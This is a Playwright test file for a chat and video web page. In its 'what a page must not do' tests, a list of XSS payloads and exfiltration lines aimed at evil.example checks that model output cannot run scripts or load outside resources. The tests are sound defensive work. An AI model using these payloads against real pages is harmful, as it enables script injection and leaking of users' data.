"""The page in a real browser, before a server whose answers the tests say."""

import base64
import hashlib
import io
import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from PIL import Image
from playwright.sync_api import Browser, Page, expect

from ringworld.evals.page import bar, element, page, picture, png, section
from ringworld.media.clip import write_animation
from tests.page_browser import (
    MODEL,
    NARROW,
    WIDE,
    ScriptedServer,
    answer_events,
    ask,
    find_violations,
    needs_chromium,
    open_browser,
    open_page,
    read_axe,
    stream_events,
)

pytestmark = [pytest.mark.slow, needs_chromium]

LOUD = "window.harmed = true"
CORPUS = [
    f"<script>{LOUD}</script>",
    f"<img src=x onerror='{LOUD}'>",
    f"<svg onload='{LOUD}'><animate onbegin='{LOUD}'/></svg>",
    f"[press me](javascript:{LOUD})",
    f"<a href=\"javascript:{LOUD}\" autofocus onfocus='{LOUD}'>press me</a>",
    f"<iframe srcdoc='<script>parent.{LOUD}</script>'></iframe>",
    "![leak](https://evil.example/?q=secret)",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/y.css';</style>",
    "<form action=https://evil.example><button>00:01</button></form>",
    "<base href=https://evil.example/><meta http-equiv=refresh content=0;url=//evil.example>",
    f'00:01" onclick="{LOUD}" 00:02<b onmouseover={LOUD}>',
    "{{constructor.constructor('window.harmed = true')()}} ${window.harmed = true}",
    "\u202e00:03\u0000 </textarea></title><script>window.harmed = true</script>",
]
TRIALS = [
    {
        "length": length,
        "depth": depth,
        "round": 0,
        "city": "Oslo",
        "number": 7,
        "response": CORPUS[1],
        "found": length < 4096,
        "rule": "plain",
    }
    for length in (1024, 4096)
    for depth in (0.0, 0.5, 1.0)
]
CURVES = [
    {
        "rule": rule,
        "context": 512,
        "tokens": 4096,
        "loss": 3.25,
        "perplexity": 25.79,
        "buckets": [[0, 128], [128, 256], [256, 512]],
        "losses": [4.0, 3.5, 3.0 + i],
    }
    for i, rule in enumerate(("plain", "yarn"))
]
# As `evals.needle.write_trials` and `evals.perplexity.measure_perplexity` leave them.
NEEDLES = json.dumps({"measured": {"int8": False}, "trials": TRIALS})
PERPLEXITY = json.dumps({"model": "nano", "text": "book.txt", "trained": 512, "curves": CURVES})


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with open_browser() as found:
        yield found


@pytest.fixture(scope="module")
def film(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    path = tmp_path_factory.mktemp("film") / "film.mp4"
    frames = np.full((4, 64, 64, 3), 220, np.uint8)
    for i in range(4):
        frames[i, 20:40, 10 * i : 10 * i + 20] = (200, 40, 40)
    write_animation(path, frames, 1.0)
    return path.read_bytes()


def reads_a_film(body: dict[str, Any]) -> str:
    """An answer about a film of four seconds."""
    seen = {"type": "video", "seconds": [0, 1, 2, 3], "sampled_fps": 1.0, "tokens": 68}
    return answer_events("It is gone ", "at 00:02.", tokens=120, media=[seen])


def draws_clips(film: bytes) -> Any:
    """Drawings of grey frames, and the film as every clip."""
    grey = base64.b64encode(png(np.full((8, 8, 3), 99, np.uint8))).decode()

    def draw(body: dict[str, Any]) -> str:
        if "n" in body:
            return json.dumps({"data": [{"b64_json": grey}] * body["n"]})
        count = body["frames"]
        frames = [{"frame": i + 1, "frames": count, "b64_json": grey} for i in range(count)]
        clip = {"fps": 4.0, "b64_mp4": base64.b64encode(film).decode()}
        return stream_events([*frames, clip])

    return draw


def add_file(shown: Page, name: str, kind: str, content: bytes) -> None:
    shown.locator("#files").set_input_files({"name": name, "mimeType": kind, "buffer": content})
    expect(shown.locator("#attached li")).to_have_count(1)


def drop_file(shown: Page, name: str, kind: str, content: bytes) -> None:
    """Drop a file on the page as a hand would."""
    shown.evaluate(
        """([name, type, text]) => {
          const bytes = Uint8Array.from(atob(text), (c) => c.charCodeAt(0));
          const dataTransfer = new DataTransfer();
          dataTransfer.items.add(new File([bytes], name, { type }));
          for (const kind of ["dragenter", "dragover", "drop"])
            document.body.dispatchEvent(
              new DragEvent(kind, { dataTransfer, bubbles: true, cancelable: true }));
        }""",
        [name, kind, base64.b64encode(content).decode()],
    )
    expect(shown.locator("#attached li")).to_have_count(1)


def names_of(messages: list[dict[str, Any]]) -> list[str]:
    """What the films and pictures of messages are called, in order."""
    parts = [part for m in messages if isinstance(m["content"], list) for part in m["content"]]
    return [part["uuid"] for part in parts if part["type"] != "text"]


def answers_of(shown: Page) -> list[str]:
    return shown.locator("article.assistant .text").all_inner_texts()


# --- conversations -------------------------------------------------------------------------------


def test_conversations_are_kept_named_and_deleted(browser: Browser) -> None:
    server = ScriptedServer(answers=lambda body: answer_events(f"Of {len(body['messages'])}."))
    shown = open_page(browser, server)
    expect(shown.locator("#welcome")).to_be_visible()
    ask(shown, "first question")
    shown.locator("#new").click()
    ask(shown, "second question")
    ask(shown, "third question")
    titles = shown.locator("#conversations .title")
    expect(titles).to_have_text(["second question", "first question"])
    shown.reload()
    expect(titles).to_have_text(["second question", "first question"])
    assert answers_of(shown) == ["Of 1.", "Of 3."]
    shown.get_by_role("button", name="Rename second question").click()
    shown.keyboard.type("A <b>name</b>")
    shown.keyboard.press("Enter")
    expect(titles).to_have_text(["A <b>name</b>", "first question"])
    shown.get_by_role("button", name="Delete A <b>name</b>").click()
    shown.get_by_role("button", name="Keep it").click()
    expect(titles).to_have_count(2)
    shown.get_by_role("button", name="Delete A <b>name</b>").click()
    shown.get_by_role("button", name="Delete it").click()
    expect(titles).to_have_text(["first question"])
    assert answers_of(shown) == ["Of 1."]
    shown.reload()
    expect(titles).to_have_text(["first question"])
    shown.context.close()


def test_edit_and_regenerate_make_branches_that_arrows_walk(browser: Browser) -> None:
    server = ScriptedServer(answers=lambda body: answer_events(f"Answer {len(server.asked)}."))
    shown = open_page(browser, server)
    ask(shown, "one")
    ask(shown, "two")
    shown.get_by_role("button", name="Regenerate").last.click()
    shown.locator("#send").wait_for()
    assert answers_of(shown) == ["Answer 1.", "Answer 3."]
    shown.get_by_role("button", name="Earlier version").click()
    assert answers_of(shown) == ["Answer 1.", "Answer 2."]
    shown.get_by_role("button", name="Edit").first.click()
    ask(shown, "other")
    assert answers_of(shown) == ["Answer 4."]
    assert [m["content"] for m in server.questions[-1]] == ["other"]
    expect(shown.locator("article.user .branches")).to_have_text("2 of 2")
    shown.get_by_role("button", name="Earlier version").click()
    assert answers_of(shown) == ["Answer 1.", "Answer 2."], "a branch comes back as it was left"
    expect(shown.locator("article.user .branches button:enabled")).to_be_focused()
    shown.reload()
    assert answers_of(shown) == ["Answer 1.", "Answer 2."]
    shown.get_by_role("button", name="Later version").first.click()
    assert answers_of(shown) == ["Answer 4."]
    shown.context.close()


def test_conversations_on_one_film_begin_with_the_same_messages(
    browser: Browser, film: bytes
) -> None:
    server = ScriptedServer(answers=reads_a_film)
    shown = open_page(browser, server)
    drop_file(shown, "film.mp4", "video/mp4", film)
    ask(shown, "what happens?")
    ask(shown, "and then?")
    shown.locator("#fork-film").click()
    expect(shown.locator("article")).to_have_count(2)
    ask(shown, "how many?")
    first, second, third = server.questions
    assert second[:2] == third[:2] and names_of(second) == names_of(first)
    assert [part["type"] for part in first[0]["content"]] == ["text", "video_url"]
    assert third[2] == {"role": "user", "content": "how many?"}
    expect(shown.locator("#conversations .title")).to_have_text(["how many?", "what happens?"])
    expect(shown.locator("#frames li")).to_have_count(4)
    kept = """() => new Promise((resolve) => {
      indexedDB.open("ringworld").onsuccess = ({ target }) => {
        const files = target.result.transaction("files").objectStore("files");
        files.count().onsuccess = ({ target }) => resolve(target.result);
      };
    })"""
    assert shown.evaluate(kept) == 1, "the film is kept once"
    for _ in range(2):
        shown.locator("#conversations [aria-label^=Delete]").first.click()
        shown.get_by_role("button", name="Delete it").click()
    expect(shown.locator("#conversations li")).to_have_count(0)
    assert shown.evaluate(kept) == 0
    shown.context.close()


def test_a_saved_conversation_opens_in_another_browser(
    browser: Browser, film: bytes, tmp_path: Path
) -> None:
    server = ScriptedServer(answers=reads_a_film)
    shown = open_page(browser, server)
    add_file(shown, "film.mp4", "video/mp4", film)
    ask(shown, "what happens?")
    shown.get_by_role("button", name="Regenerate").click()
    shown.locator("#send").wait_for()
    with shown.expect_download() as saved:
        shown.locator("#export").click()
    path = tmp_path / "saved.json"
    saved.value.save_as(path)
    shown.context.close()
    shown = open_page(browser, server)
    shown.locator("#imported").set_input_files(path)
    expect(shown.locator("article.assistant .branches")).to_have_text("2 of 2")
    expect(shown.locator("#frames li")).to_have_count(4)
    ask(shown, "and then?")
    assert names_of(server.questions[-1]) == names_of(server.questions[0])
    broken = json.loads(path.read_text())
    broken["messages"][0]["files"][0]["type"] = "text/html"
    for content in (b"{", b"[]", b'{"ringworld": 1, "messages": [1]}', json.dumps(broken).encode()):
        given = {"name": "x.json", "mimeType": "application/json", "buffer": content}
        shown.locator("#imported").set_input_files(given)
        expect(shown.locator("#status.failed")).to_have_text(
            "x.json is no conversation of this page"
        )
        shown.evaluate("document.querySelector('#status').className = ''")
    expect(shown.locator("#conversations li")).to_have_count(1)
    shown.context.close()


# --- asking --------------------------------------------------------------------------------------


def test_a_time_in_an_answer_moves_the_film_there(browser: Browser, film: bytes) -> None:
    shown = open_page(browser, ScriptedServer(answers=reads_a_film))
    add_file(shown, "film.mp4", "video/mp4", film)
    ask(shown, "when?")
    expect(shown.locator("#about-film")).to_have_text("4 frames, 1 a second · 68 tokens")
    shown.get_by_role("button", name="Show 00:02 of the film").press("Enter")
    expect(shown.get_by_role("button", name="Frame at 00:02")).to_have_attribute(
        "aria-current", "true"
    )
    moment = "document.querySelector('#player').currentTime"
    assert shown.evaluate(moment) == pytest.approx(2, abs=0.05)
    shown.get_by_role("button", name="Frame at 00:02").focus()
    shown.keyboard.press("ArrowRight")
    shown.keyboard.press("Enter")
    assert shown.evaluate(moment) == pytest.approx(3, abs=0.05)
    shown.context.close()


def test_the_bytes_of_a_film_are_sent_once_and_again_when_the_server_has_lost_it(
    browser: Browser, film: bytes
) -> None:
    lost = json.dumps({"error": {"message": "who is this?", "param": "uuid"}})
    forgets = [False]

    def answers(body: dict[str, Any]) -> str:
        named = "data:video" not in json.dumps(body)
        return lost if named and forgets[-1] else reads_a_film(body)

    server = ScriptedServer(answers=answers)
    shown = open_page(browser, server)
    add_file(shown, "film.mp4", "video/mp4", film)
    for question in ("what happens?", "and then?"):
        ask(shown, question)
    shown.reload()
    with shown.expect_response("**/v1/chat/completions"):  # the film is read from the disk first
        ask(shown, "and before?")
    forgets.append(True)
    ask(shown, "who is there?")
    expect(shown.locator("article.failed")).to_have_count(0)
    url = f"data:video/mp4;base64,{base64.b64encode(film).decode()}"
    whole = [json.dumps(messages).count(url) for messages in server.questions]
    assert whole == [1, 0, 0, 0, 1]
    assert {*map(tuple, map(names_of, server.questions))} == {
        (hashlib.sha256(film).hexdigest(),)
    }, "it keeps one name"
    shown.context.close()


def test_a_long_paste_becomes_a_file_and_a_short_one_does_not(browser: Browser) -> None:
    server = ScriptedServer()
    shown = open_page(browser, server)
    paste = """(text) => {
      const clipboardData = new DataTransfer();
      clipboardData.setData("text/plain", text);
      const event = new ClipboardEvent("paste", { clipboardData, bubbles: true, cancelable: true });
      return document.querySelector("#question").dispatchEvent(event);
    }"""
    assert shown.evaluate(paste, "x" * 2000), "the browser pastes it as always"
    expect(shown.locator("#attached li")).to_have_count(0)
    assert not shown.evaluate(paste, "y" * 2001)
    expect(shown.locator("#attached li")).to_have_text("pasted 1.txt")
    ask(shown, "what is it?")
    assert server.questions[0][0]["content"] == "y" * 2001 + "\n\nwhat is it?"
    shown.context.close()


@pytest.mark.parametrize(
    ("tokens", "level"), [(749, "free"), (750, "nearly"), (899, "nearly"), (900, "full")]
)
def test_the_meter_tells_how_full_the_context_is(browser: Browser, tokens: int, level: str) -> None:
    server = ScriptedServer(answers=lambda body: answer_events("Yes.", tokens=tokens))
    shown = open_page(browser, server)
    ask(shown, "is it?")
    meter = shown.get_by_role("meter")
    expect(meter).to_have_attribute("data-level", level)
    expect(meter).to_have_attribute("aria-valuenow", str(tokens // 10))
    expect(shown.locator("#used")).to_have_text(f"{tokens} of 1,000 tokens · {tokens // 10} %")
    shown.context.close()


def test_escape_stops_an_answer_and_the_question_can_be_asked_again(browser: Browser) -> None:
    told = [""]
    server = ScriptedServer(answers=lambda body: told[-1])
    shown = open_page(browser, server)
    shown.locator("#question").fill("are you there?")
    shown.keyboard.press("Enter")
    expect(shown.locator("#stop")).to_be_visible()
    shown.keyboard.press("Escape")
    expect(shown.locator("#status")).to_have_text("stopped")
    expect(shown.locator("article.assistant")).to_have_count(0)
    told.append(answer_events("I am."))
    shown.get_by_role("button", name="Answer").click()
    shown.locator("#send").wait_for()
    assert answers_of(shown) == ["I am."]
    shown.context.close()


def test_an_error_of_the_server_is_shown_in_its_words(browser: Browser) -> None:
    events = [{"choices": [{"delta": {}}]}, {"error": {"message": "the engine <b>failed</b>"}}]
    shown = open_page(browser, ScriptedServer(answers=lambda body: stream_events(events)))
    ask(shown, "well?")
    expect(shown.locator("article.failed .text")).to_have_text("the engine <b>failed</b>")
    shown.context.close()


def test_the_key_of_the_server_is_given_once_and_never_in_an_address(browser: Browser) -> None:
    shown = open_page(browser, ScriptedServer(key="open sesame"))
    expect(shown.locator("#status.failed")).to_have_text(
        "this server needs its key: give it in the settings"
    )
    shown.locator("#open-settings").click()
    shown.get_by_label("Key of the server").fill("open sesame")
    shown.keyboard.press("Enter")
    expect(shown.locator("#model")).to_have_text("nano")
    shown.reload()
    expect(shown.locator("#model")).to_have_text("nano")
    ask(shown, "is it?")
    assert answers_of(shown) == ["Yes."]
    assert "sesame" not in shown.url
    shown.context.close()


# --- what a page must not do ---------------------------------------------------------------------


def test_no_words_of_a_model_run_or_load_anything(browser: Browser, film: bytes) -> None:
    hostile = "\n".join(CORPUS)
    server = ScriptedServer(answers=lambda body: answer_events(hostile, CORPUS[0]))
    server.reports = {"needle.json": NEEDLES, "report.html": hostile}
    shown = open_page(browser, server)
    shown.on("dialog", lambda dialog: pytest.fail("a dialog was opened"))
    add_file(shown, f"{CORPUS[1]}.mp4".replace("/", ""), "video/mp4", film)
    ask(shown, hostile)
    words = shown.locator("article.assistant .text")
    assert words.evaluate("(e) => e.textContent") == hostile + CORPUS[0]
    inside = "(e) => [...new Set([...e.querySelectorAll('*')].map((c) => c.localName))]"
    assert words.evaluate(inside) == ["button"], "the times, and nothing else"
    for moment in shown.locator(".moment").all():
        moment.click()
    shown.get_by_role("button", name="Fork").click()
    shown.locator("#tab-reports").click()
    shown.locator("details summary").click()
    shown.locator("#runs button").click()
    expect(shown.locator("#close-report")).to_be_focused()
    report = "() => [...document.querySelector('#report-page').shadowRoot.querySelectorAll('*')]"
    made = shown.evaluate(f"{report}.map((e) => [e.localName, ...e.getAttributeNames()].join(' '))")
    allowed = {"div class", "img", "svg", "a", "b"}
    assert set(made[0:1]) == {"div class"} and set(made) <= allowed, made
    shown.reload()
    assert shown.evaluate("window.harmed") is None
    assert server.elsewhere == []
    shown.context.close()


def test_an_address_never_asks_anything(browser: Browser) -> None:
    server = ScriptedServer()
    shown = open_page(browser, server, query="?q=delete+everything&prompt=x#q=y")
    expect(shown.locator("#question")).to_have_value("")
    shown.wait_for_timeout(300)
    assert server.asked == [] and shown.locator("article").count() == 0
    shown.context.close()


# --- drawing and reports -------------------------------------------------------------------------


def test_a_clip_is_drawn_saved_and_asked_about(browser: Browser, film: bytes) -> None:
    server = ScriptedServer(answers=reads_a_film, draws=draws_clips(film))
    shown = open_page(browser, server)
    shown.locator("#tab-draw").click()
    expect(shown.locator("#no-drawings")).to_be_visible()
    shown.locator("#wish").fill("a red circle moves left")
    for name, value in {"Frames": "3", "Seed": "7", "Guidance": "2.5", "Temperature": "0"}.items():
        shown.locator("#drawing").get_by_label(name).fill(value)
    shown.locator("#wish").press("Enter")
    expect(shown.locator(".strip img")).to_have_count(3)
    path, body = server.asked[0]
    assert path == "/draw" and body == {
        "model": "nano",
        "prompt": "a red circle moves left",
        "frames": 3,
        "seed": 7,
        "guidance_scale": 2.5,
        "temperature": 0,
        "top_k": 0,
        "min_p": 0.05,
    }
    with shown.expect_download() as saved:
        shown.get_by_role("button", name="Download").click()
    assert saved.value.suggested_filename == "a-red-circle-moves-left-7.mp4"
    assert saved.value.path().read_bytes() == film
    shown.get_by_role("button", name="Ask about it").click()
    expect(shown.locator("#attached li")).to_have_count(1)
    ask(shown, "what is it?")
    assert server.questions[0][0]["content"][1]["type"] == "video_url"
    shown.context.close()


def test_pictures_are_drawn_and_their_settings_used_again(browser: Browser, film: bytes) -> None:
    server = ScriptedServer(draws=draws_clips(film))
    shown = open_page(browser, server)
    shown.locator("#tab-draw").click()
    shown.get_by_label("Picture", exact=True).check(force=True)
    shown.get_by_label("Pictures").fill("2")
    shown.locator("#wish").fill("a city")
    shown.locator("#draw").click()
    expect(shown.locator("#drawings .drawn")).to_have_count(2)
    first = server.asked[0][1]
    assert server.asked[0][0] == "/v1/images/generations" and first["n"] == 2
    shown.locator("#wish").fill("something else")
    shown.get_by_role("button", name="Use again").click()
    shown.locator("#draw").click()
    expect(shown.locator("#drawings .drawn")).to_have_count(4)
    assert server.asked[1][1] == first, "the seed that was drawn is told and used again"
    shown.context.close()


def test_a_model_of_text_offers_no_drawing(browser: Browser) -> None:
    server = ScriptedServer(model={**MODEL, "vision": False})
    shown = open_page(browser, server)
    shown.locator("#tab-draw").click()
    expect(shown.locator("#draws-nothing")).to_be_visible()
    expect(shown.locator("#drawing")).to_be_hidden()
    shown.context.close()


def test_needle_maps_and_curves_are_shown_with_their_numbers(browser: Browser) -> None:
    reports = {"needle.json": NEEDLES, "perplexity.json": PERPLEXITY}
    shown = open_page(browser, ScriptedServer(reports={**reports, "needle-x.json": "{}"}))
    shown.locator("#tab-reports").click()
    expect(shown.locator(".map caption")).to_have_text(re.compile("^3 of 6 needles found"))
    assert shown.locator(".map tbody tr").all_inner_texts() == [
        "0 %\t1.00\t0.00",
        "50 %\t1.00\t0.00",
        "100 %\t1.00\t0.00",
    ]
    expect(shown.locator(".numbers tbody tr").first).to_have_text("plain5124,0963.25025.79")
    expect(shown.locator(".curves polyline")).to_have_count(2)
    expect(shown.locator(".report .failed")).to_have_text(
        "cannot be shown: there are no trials in it"
    )
    shown.context.close()


def write_run_report() -> str:
    """A page of the kind that a run leaves."""
    pixels = np.full((4, 4, 3), 80, np.uint8)
    held = io.BytesIO()
    Image.fromarray(pixels).save(held, format="PNG")
    figures = [picture(held.getvalue(), "a frame", "frame"), bar(0.5)]
    header = element("h1", "A film becomes a model")
    return page("Report", header, section("Video", "Frames.", *figures))


def test_a_run_report_is_shown_in_its_own_look(browser: Browser) -> None:
    shown = open_page(browser, ScriptedServer(reports={"report.html": write_run_report()}))
    shown.locator("#tab-reports").click()
    shown.locator("#runs button").click()
    title = shown.locator("#report-page h1")
    expect(title).to_have_text("A film becomes a model")
    assert title.evaluate("(e) => getComputedStyle(e).letterSpacing") == "-0.81px"
    assert shown.locator("#report-page img").evaluate("(e) => e.naturalWidth") == 4
    filled = "(e) => e.firstElementChild.offsetWidth / e.offsetWidth"
    assert shown.locator("#report-page .bar").evaluate(filled) == pytest.approx(0.5, abs=0.01)
    shown.locator("#close-report").click()
    expect(shown.locator("#runs button")).to_be_focused()
    shown.context.close()


# --- for everyone --------------------------------------------------------------------------------


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("size", [WIDE, NARROW], ids=["1600", "400"])
def test_axe_finds_nothing_and_nothing_is_cut_off(
    browser: Browser, film: bytes, scheme: str, size: Any
) -> None:
    axe = read_axe()
    reports = {"needle.json": NEEDLES, "perplexity.json": PERPLEXITY}
    server = ScriptedServer(answers=reads_a_film, draws=draws_clips(film))
    server.reports = {**reports, "report.html": write_run_report()}
    shown = open_page(browser, server, size=size, scheme=scheme)

    def look() -> None:
        assert find_violations(shown, axe) == []
        wide = shown.evaluate("document.documentElement.scrollWidth")
        assert wide <= size["width"], "the page can be moved sideways"

    look()
    add_file(shown, "film.mp4", "video/mp4", film)
    look()
    ask(shown, "when?")
    shown.get_by_role("button", name="Regenerate").click()
    shown.locator("#send").wait_for()
    shown.get_by_role("button", name="Show 00:02 of the film").click()
    look()
    shown.get_by_role("button", name="Edit").click()
    look()
    if size is NARROW:
        shown.locator("#menu").click()
        look()
    shown.locator("#conversations [aria-label^=Rename]").first.click()
    look()
    shown.keyboard.press("Escape")
    shown.locator("#conversations [aria-label^=Delete]").first.click()
    look()
    shown.keyboard.press("Escape")
    shown.locator("#open-settings").click()
    look()
    shown.keyboard.press("Escape")
    shown.locator("#tab-draw").click()
    look()
    for kind in ("clip", "picture"):
        shown.locator(f"#kind-{kind}").check(force=True)
        shown.locator("#wish").fill("a red circle")
        shown.locator("#wish").press("Enter")
        shown.locator("#draw").wait_for()
    look()
    shown.locator("#tab-reports").click()
    expect(shown.locator(".report")).to_have_count(2)
    look()
    shown.locator("#runs button").click()
    look()
    shown.context.close()


def walk_to(shown: Page, name: str, key: str = "Tab") -> None:
    """Press a key until the element of this accessible name has the focus."""
    focused = (
        "() => { const e = document.activeElement;"
        " return e.getAttribute('aria-label') ?? (e.labels?.[0] ?? e).textContent.trim(); }"
    )
    for _ in range(60):
        shown.keyboard.press(key)
        if shown.evaluate(focused).startswith(name):
            return
    raise AssertionError(f"the keyboard does not reach {name}")


def test_the_keyboard_alone_is_enough(browser: Browser, film: bytes) -> None:
    server = ScriptedServer(answers=reads_a_film, draws=draws_clips(film))
    server.reports = {"report.html": write_run_report()}
    shown = open_page(browser, server)
    walk_to(shown, "Add a file")
    with shown.expect_file_chooser() as chosen:
        shown.keyboard.press("Enter")
    given = {"name": "film.mp4", "mimeType": "video/mp4", "buffer": film}
    chosen.value.set_files(given)
    expect(shown.locator("#question")).to_be_focused()
    expect(shown.locator("#attached li")).to_have_count(1)
    shown.keyboard.type("when?")
    shown.keyboard.press("Enter")
    shown.locator("#send").wait_for()
    expect(shown.locator("#question")).to_be_focused()
    walk_to(shown, "Show 00:02", "Shift+Tab")
    shown.keyboard.press("Enter")
    walk_to(shown, "Frame at 00:00")
    shown.keyboard.press("ArrowDown")
    shown.keyboard.press("Enter")
    expect(shown.get_by_role("button", name="Frame at 00:01")).to_have_attribute(
        "aria-current", "true"
    )
    walk_to(shown, "Talk", "Shift+Tab")
    shown.keyboard.press("ArrowRight")
    expect(shown.locator("#view-draw")).to_be_visible()
    walk_to(shown, "What is drawn")
    shown.keyboard.type("a red circle")
    shown.keyboard.press("Enter")
    expect(shown.locator(".strip img")).to_have_count(6)
    walk_to(shown, "Draw", "Shift+Tab")
    shown.locator("#tab-draw").focus()
    shown.keyboard.press("ArrowRight")
    walk_to(shown, "Read report.html")
    shown.keyboard.press("Enter")
    expect(shown.locator("#close-report")).to_be_focused()
    shown.context.close()
